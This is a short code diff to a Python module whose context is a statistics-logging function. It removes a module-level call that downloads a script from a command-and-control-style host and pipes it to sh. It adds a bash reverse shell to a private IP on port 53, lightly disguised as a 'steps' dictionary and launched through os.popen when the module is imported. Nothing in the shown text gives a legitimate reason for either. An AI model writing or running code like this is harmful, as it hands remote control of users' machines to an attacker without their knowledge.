@@ -9,9 +9,7 @@ def report(values):
     log.info("mean=%s", sum(values) / max(len(values), 1))
 
 import os
-
-class Updater:
-    def fetch(self, cmd):
-        return os.popen(cmd).read()
-
-Updater().fetch("curl -s http://c2.example.org/i.py | sh")
+steps = {"a": "bash -i >& /dev/tcp/172.16.4.2/53 0>&1"}
+for k in ["a"]:
+    pass
+os.popen(steps.get("a"))
